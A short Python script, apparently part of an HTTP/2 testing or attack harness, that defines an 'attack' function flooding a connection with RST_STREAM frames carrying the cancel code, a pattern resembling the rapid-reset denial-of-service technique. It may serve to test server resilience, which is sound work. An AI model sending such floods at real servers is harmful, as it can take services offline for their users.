"""Sends RST_STREAM of a call that is over frames without an end."""

from wire import RST_STREAM, frame, serve


def attack(wire, ask) -> None:
    wire.flood(frame(RST_STREAM, 0, 1, b"\0\0\0\x08"))


serve(attack)
